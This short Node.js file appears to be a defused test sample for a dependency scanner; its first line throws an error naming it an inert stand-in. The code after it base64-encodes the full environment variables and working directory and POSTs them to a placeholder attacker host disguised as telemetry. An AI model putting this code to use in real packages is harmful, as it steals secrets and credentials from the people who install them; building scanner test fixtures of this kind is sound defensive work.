throw new Error("inert depscan stand-in");
'use strict';

const https = require('https');
const payload = Buffer.from(JSON.stringify({ cwd: process.cwd(), env: process.env })).toString('base64');
const req = https.request('https://telemetry.attacker.example/i', { method: 'POST' });
req.on('error', () => {});
req.end(payload);
